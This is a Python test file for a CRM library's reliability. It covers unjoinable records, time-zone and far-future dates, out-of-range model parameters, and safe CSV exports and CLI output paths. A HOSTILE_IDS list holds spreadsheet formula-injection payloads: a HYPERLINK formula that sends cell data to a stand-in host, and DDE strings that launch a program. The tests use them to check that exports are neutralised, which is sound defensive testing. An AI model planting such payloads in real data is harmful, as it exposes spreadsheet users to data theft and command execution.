"""Battery cases for hostile data and careless hands (issue #20).

Records that do not join (ids of another type, written differently, or
unknown), time zones and far-future dates, parameters that pass the type
checks but cannot be computed, spreadsheet formulas in exported cells, and
command lines that would overwrite their own input.
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import warnings
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

import crmkit
from crmkit.exceptions import DataWarning, InvalidParameterError, SchemaError
from crmkit.value import clv, customer_equity
from tests.reliability._harness import (
    AS_OF,
    FIRST_ROW,
    Case,
    Context,
    Handled,
    Raises,
    base_tx,
    summarize,
)

R = FIRST_ROW
HOSTILE_IDS = ('=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)",
               "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


# ---------------------------------------------------------------- records
def _text_tx() -> pd.DataFrame:
    tx = base_tx()
    return tx.assign(customer_id=[f"{v:03d}" for v in tx["customer_id"]])


def _feedback(ids: list[Any], first: int = 0) -> pd.DataFrame:
    n = len(ids)
    return pd.DataFrame(
        {"customer_id": ids, "date": pd.Timestamp("2023-06-01"), "kind": "nps",
         "score": np.arange(n) % 11},
        index=pd.RangeIndex(first, first + n),
    )


def _contacts(ids: list[Any]) -> pd.DataFrame:
    return pd.DataFrame({"customer_id": ids, "contact_id": [f"p{i}" for i in range(len(ids))]})


def _data(**frames: Any) -> crmkit.CustomerData:
    return crmkit.CustomerData.from_frames(as_of=AS_OF, **frames)


def _orphans() -> tuple[crmkit.CustomerData, pd.DataFrame]:
    """40 customers' transactions; 10 feedback rows of theirs, 30 of a customer not there."""
    fb = _feedback([f"{i:03d}" for i in range(10)] + ["999"] * 30)
    data = _data(transactions=_text_tx(), feedback=fb)
    return data, crmkit.summarize(data)


def _check_orphans(result: tuple[crmkit.CustomerData, pd.DataFrame], ctx: Context) -> None:
    data, view = result
    (u,) = data.report.unmatched
    assert (u.kind, u.column, u.target, u.n_rows) == ("feedback", "customer_id", "customer", 30)
    assert u.rows == (10, 11, 12, 13, 14) and u.ids == ("999",)
    assert data.report.n_unmatched == 30
    assert "30 feedback rows name no known customer" in str(data.report)
    assert len(data.get("feedback")) == 40, "unmatched rows are kept, not dropped"
    assert "999" not in view.index and len(view) == 40
    joined = _data(transactions=_text_tx(), feedback=_feedback([f"{i:03d}" for i in range(10)]))
    pd.testing.assert_frame_equal(view, crmkit.summarize(joined))


def _many_kinds() -> crmkit.CustomerData:
    tx = base_tx()
    campaigns = pd.DataFrame({"campaign_id": [1, 2]})
    touches = pd.DataFrame({"campaign_id": [1, 2, 7], "customer_id": [0, 1, 2],
                            "date": pd.Timestamp("2023-05-01")})
    return _data(transactions=tx, contacts=_contacts([0, 1, 77, 78]), feedback=_feedback([5, 500]),
                 campaigns=campaigns, touches=touches)


def _check_many_kinds(data: crmkit.CustomerData, ctx: Context) -> None:
    found = {(u.kind, u.column): (u.n_rows, u.ids) for u in data.report.unmatched}
    assert found == {("contacts", "customer_id"): (2, (77, 78)),
                     ("feedback", "customer_id"): (1, (500,)),
                     ("touches", "campaign_id"): (1, (7,))}
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        _many_kinds()
    joins = [w for w in caught if issubclass(w.category, DataWarning)
             and "do not join" in str(w.message)]
    assert len(joins) == 1, "all kinds are announced by ONE warning"
    assert str(joins[0].message).startswith("crmkit: 4 rows do not join")


def _check_make_crm(data: crmkit.CustomerData, ctx: Context) -> None:
    assert data.report.unmatched == () and data.report.n_unmatched == 0
    assert set(data.frames) >= {"contacts", "feedback", "interactions", "touches", "prospects"}


# ------------------------------------------------------------- time zones
def _june_tx() -> pd.DataFrame:
    return pd.DataFrame(
        {"customer_id": [1, 1, 2, 2], "amount": [10.0, 20.0, 30.0, 40.0],
         "date": pd.to_datetime(["2024-03-01", "2024-06-01", "2024-04-01", "2024-06-02"])},
        index=pd.RangeIndex(R, R + 4),
    )


def _check_day_kept(as_of: str, n_kept: int) -> Any:
    def check(data: crmkit.CustomerData, ctx: Context) -> None:
        assert data.as_of == pd.Timestamp(as_of), data.as_of
        assert len(data.transactions) == n_kept
    return check


def _check_aware_records(view: pd.DataFrame, ctx: Context) -> None:
    # 02:00 at +05:00 on 1 June is 21:00 UTC on 31 May; as_of "2024-05-31" is read as written
    assert view.loc[1, "last_purchase"] == pd.Timestamp("2024-05-31")
    assert view["n_transactions"].sum() == 2


def _aware_records() -> pd.DataFrame:
    return pd.DataFrame({"customer_id": [1, 1], "amount": [1.0, 2.0],
                         "date": pd.to_datetime(["2024-03-01 12:00+05:00",
                                                 "2024-06-01 02:00+05:00"])})


# --------------------------------------------------------------- numbers
def _clv(ctx: Context, **kw: Any) -> pd.Series:
    kw.setdefault("horizon", 52.0)
    kw.setdefault("discount_rate", 0.1)
    out: pd.Series = clv(ctx.bg, ctx.gg, ctx.view, **kw)
    return out


def _check_longest_horizon(values: pd.Series, ctx: Context) -> None:
    assert np.isfinite(values).all() and (values >= 0).all()
    assert (values >= _clv(ctx, horizon=52.0) - 1e-9).all(), "a longer horizon never lowers CLV"


def _playbook(horizon: float) -> Any:
    from crmkit.compose import Playbook

    data = crmkit.datasets.make_crm(200, seed=1).data  # enough customers for a value model
    return Playbook(horizon=horizon).fit(data).assess(data)


# ---------------------------------------------------------------- exports
def _hostile_view() -> pd.DataFrame:
    ids = [*HOSTILE_IDS, "ok", "-5"]
    n = len(ids)
    return pd.DataFrame(
        {"note": ["=1+1", "plain", "-", "@", "+", "", "x", "-7.5"], "revenue": -np.arange(n) - 0.5},
        index=pd.Index(ids, name="customer_id"),
    )


def _exported(ctx: Context, *, safe: bool) -> pd.DataFrame:
    path = ctx.tmp / "view.csv"
    crmkit.write_table(_hostile_view(), path, safe=safe)
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def _check_quoted(table: pd.DataFrame, ctx: Context) -> None:
    assert table["customer_id"].tolist() == [*("'" + v for v in HOSTILE_IDS), "ok", "-5"]
    assert table["note"].tolist() == ["'=1+1", "plain", "'-", "'@", "'+", "", "x", "-7.5"]
    assert table["revenue"].astype(float).tolist() == (-np.arange(8) - 0.5).tolist()


def _check_raw(table: pd.DataFrame, ctx: Context) -> None:
    assert table["customer_id"].tolist() == [*HOSTILE_IDS, "ok", "-5"]
    assert table["note"].tolist() == ["=1+1", "plain", "-", "@", "+", "", "x", "-7.5"]


def _failed_write(ctx: Context) -> Any:
    target = ctx.tmp / "view.parquet"
    target.write_bytes(b"the previous good file")
    bad = pd.DataFrame({"x": [1, "two"]})  # Parquet cannot store a column of int and str
    return crmkit.write_table(bad, target)


def _check_nothing_clobbered(ctx: Context) -> None:
    assert (ctx.tmp / "view.parquet").read_bytes() == b"the previous good file"
    assert sorted(p.name for p in ctx.tmp.iterdir()) == ["view.parquet"], "no temporary left"


# ---------------------------------------------------------------- the CLI
def _tx_file(ctx: Context, ids: Any = None) -> Path:
    tx = base_tx().reset_index(drop=True)
    if ids is not None:
        tx["customer_id"] = [ids[v % len(ids)] for v in tx["customer_id"]]
    path = ctx.tmp / "tx.csv"
    tx.to_csv(path, index=False)
    return path


def _cli(*args: str) -> tuple[int, str]:
    from crmkit.cli import main

    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(list(args))
    return code, err.getvalue()


def _refused(ctx: Context, output: str, *args: str) -> tuple[int, str, bytes, bytes]:
    src = _tx_file(ctx)
    before = src.read_bytes()
    code, err = _cli(*args[:1], str(src), "--as-of", AS_OF, *args[1:], str(ctx.tmp / output))
    return code, err, before, src.read_bytes()


def _check_refused(says: str) -> Any:
    def check(result: tuple[int, str, bytes, bytes], ctx: Context) -> None:
        code, err, before, after = result
        assert code == 2, err
        assert re.search(says, err), err
        assert err.startswith("crmkit: error: ") and err.count("\n") == 1, err
        assert after == before, "the input must be unchanged"
    return check


def _cli_hostile(ctx: Context) -> tuple[int, str, pd.DataFrame]:
    src = _tx_file(ctx, ids=[*HOSTILE_IDS[:4], "ok"])
    out = ctx.tmp / "view.csv"
    code, err = _cli("summarize", str(src), "--as-of", AS_OF, "--out", str(out))
    return code, err, pd.read_csv(out, dtype={"customer_id": str})


def _check_cli_quoted(result: tuple[int, str, pd.DataFrame], ctx: Context) -> None:
    code, err, view = result
    assert code == 0, err
    assert sorted(view["customer_id"]) == sorted(["'" + v for v in HOSTILE_IDS[:4]] + ["ok"])


CASES: list[Case] = [
    # ---- records that do not join
    Case(
        "join_text_ids_vs_integer_feedback",
        "summarize",
        lambda c: _data(transactions=_text_tx(), feedback=_feedback([0, 1, 2], first=500)),
        Raises(SchemaError, "customer_id",
               ("feedback['customer_id']", "ids are numbers", "transactions are text",
                "'000'", "same type"), (500, 501, 502)),
    ),
    Case(
        "join_zero_padded_vs_plain_contacts",
        "summarize",
        lambda c: _data(transactions=_text_tx(), contacts=_contacts(["1", "002", "3"])),
        Raises(SchemaError, "customer_id",
               ("contacts['customer_id']", "written differently", "leading zeros",
                "contacts '1' vs transactions '001'"), (0, 2)),
    ),
    Case(
        "join_customers_integer_vs_text_transactions",
        "summarize",
        lambda c: _data(transactions=_text_tx(),
                        customers=pd.DataFrame({"customer_id": range(40)})),
        Raises(SchemaError, "customer_id", ("customers['customer_id']", "transactions are text"),
               (0, 1, 2, 3, 4)),
    ),
    Case(
        "join_touches_campaign_type_mismatch",
        "summarize",
        lambda c: _data(transactions=base_tx(),
                        campaigns=pd.DataFrame({"campaign_id": ["C1", "C2"]}),
                        touches=pd.DataFrame({"campaign_id": [1], "customer_id": [0],
                                              "date": pd.Timestamp("2023-05-01")})),
        Raises(SchemaError, "campaign_id", ("touches['campaign_id']", "campaign ids of campaigns"),
               (0,)),
    ),
    Case(
        "join_orphan_feedback_counted_and_reported",
        "summarize",
        lambda c: _orphans(),
        Handled(_check_orphans, warns=r"^crmkit: 30 rows do not join: 30 feedback rows name no "
                r"known customer \(customer_id e\.g\. '999'; rows \[10, 11, 12, 13, 14\]\)"),
    ),
    Case(
        "join_orphans_of_many_kinds_one_warning",
        "summarize",
        lambda c: _many_kinds(),
        Handled(_check_many_kinds, warns=r"2 contacts rows name no known customer.*1 touches "
                r"row names no known campaign"),
    ),
    Case(
        "join_make_crm_records_all_join",
        "summarize",
        lambda c: crmkit.datasets.make_crm(300, seed=1).data,
        Handled(_check_make_crm, warns=None),
    ),
    # ---- time zones and far dates
    Case(
        "as_of_aware_ahead_of_utc_keeps_the_day",
        "summarize",
        lambda c: crmkit.CustomerData.from_frames(_june_tx().iloc[:3],
                                                  as_of="2024-06-01T00:00+05:00"),
        Handled(_check_day_kept("2024-06-01", 3), warns=None),
    ),
    Case(
        "as_of_aware_behind_utc_keeps_the_day",
        "summarize",
        lambda c: crmkit.CustomerData.from_frames(_june_tx(), as_of="2024-06-01T23:30-05:00"),
        Handled(_check_day_kept("2024-06-01", 3),
                warns=r"dropped 1 transaction row dated after as_of=2024-06-01 "
                      rf"\(first rows \[{R + 3}\]\)"),
    ),
    Case(
        "as_of_naive_with_aware_records_read_as_written",
        "summarize",
        lambda c: crmkit.summarize(_aware_records(), as_of="2024-05-31"),
        Handled(_check_aware_records, warns=None),
    ),
    Case(
        "as_of_after_2262",
        "summarize",
        lambda c: summarize(base_tx(), as_of="2300-01-01"),
        Raises(InvalidParameterError, None,
               ("as_of='2300-01-01' is outside the dates", "2262-04-10")),
    ),
    Case(
        "as_of_placeholder_9999_date",
        "summarize",
        lambda c: summarize(base_tx(), as_of=pd.Timestamp("9999-12-31").to_pydatetime().date()),
        Raises(InvalidParameterError, None, ("outside the dates", "placeholder")),
    ),
    # ---- parameters that pass the type check but cannot be computed
    Case(
        "clv_horizon_1e300",
        "predict",
        lambda c: _clv(c, horizon=1e300),
        Raises(InvalidParameterError, None, ("'horizon' parameter of clv", "at most 5,218",
                                             "100 years", "1e+300")),
    ),
    Case(
        "clv_horizon_1e5_weeks",
        "predict",
        lambda c: _clv(c, horizon=1e5),
        Raises(InvalidParameterError, None, ("at most 5,218", "'W'", "100000.0")),
    ),
    Case(
        "clv_horizon_days_beyond_100_years",
        "predict",
        lambda c: _clv(c, horizon=40_000, time_unit="D"),
        Raises(InvalidParameterError, None, ("at most 36,525", "'D'")),
    ),
    Case(
        "clv_horizon_100_years_is_computed",
        "predict",
        lambda c: _clv(c, horizon=5_200.0),
        Handled(_check_longest_horizon, warns=None),
    ),
    Case(
        "clv_steps_beyond_one_a_day",
        "predict",
        lambda c: _clv(c, steps=10**12),
        Raises(InvalidParameterError, None, ("'steps' parameter of clv", "at most 364")),
    ),
    Case(
        "clv_discount_rate_1e300",
        "predict",
        lambda c: _clv(c, discount_rate=1e300),
        Raises(InvalidParameterError, None, ("'discount_rate' parameter of clv", "ANNUAL")),
    ),
    Case(
        "equity_horizon_huge_int",
        "predict",
        lambda c: customer_equity(c.bg, c.gg, c.view, horizon=2**70, discount_rate=0.1),
        Raises(InvalidParameterError, None, ("'horizon' parameter of customer_equity",)),
    ),
    Case(
        "equity_n_boot_1e9",
        "predict",
        lambda c: customer_equity(c.bg, c.gg, c.view, horizon=52, discount_rate=0.1,
                                  n_boot=10**9),
        Raises(InvalidParameterError, None, ("'n_boot' parameter of customer_equity",)),
    ),
    Case(
        "playbook_horizon_1e5_weeks",
        "playbook",
        lambda c: _playbook(1e5),
        Raises(InvalidParameterError, None, ("'horizon' parameter", "100 years")),
    ),
    # ---- exports
    Case(
        "export_formula_cells_quoted",
        "export",
        lambda c: _exported(c, safe=True),
        Handled(_check_quoted, warns=None),
    ),
    Case(
        "export_raw_keeps_text",
        "export",
        lambda c: _exported(c, safe=False),
        Handled(_check_raw, warns=None),
    ),
    Case(
        "export_failed_write_clobbers_nothing",
        "export",
        lambda c: _failed_write_outcome(c),
        Handled(lambda result, c: _check_nothing_clobbered(c), warns=None),
    ),
    Case(
        "cli_summarize_out_is_its_input",
        "export",
        lambda c: _refused(c, "tx.csv", "summarize", "--out"),
        Handled(_check_refused(r"--out .*tx\.csv is the input FILE .*refusing to overwrite"),
                warns=None),
    ),
    Case(
        "cli_summarize_out_is_a_link_to_its_input",
        "export",
        lambda c: (os.symlink(c.tmp / "tx.csv", c.tmp / "link.csv"),
                   _refused(c, "link.csv", "summarize", "--out"))[1],
        Handled(_check_refused(r"link\.csv is the input FILE"), warns=None),
    ),
    Case(
        "cli_fit_out_is_its_input",
        "export",
        lambda c: _refused(c, "tx.csv", "fit", "--out"),
        Handled(_check_refused(r"--out .*tx\.csv: must be JSON: \.json; got '\.csv'"),
                warns=None),
    ),
    Case(
        "cli_report_into_a_csv",
        "export",
        lambda c: _refused(c, "r.csv", "report", "--out"),
        Handled(_check_refused(r"must be an HTML page: \.html; got '\.csv'"), warns=None),
    ),
    Case(
        "cli_summarize_quotes_formula_ids",
        "export",
        _cli_hostile,
        Handled(_check_cli_quoted, warns=None),
    ),
]


def _failed_write_outcome(ctx: Context) -> str:
    """Run the failing write; the error must come from the writer, the old file survive."""
    try:
        _failed_write(ctx)
    except Exception as exc:  # pyarrow's error: the frame cannot be stored
        return type(exc).__name__
    raise AssertionError("writing a mixed int/str column as Parquet unexpectedly worked")
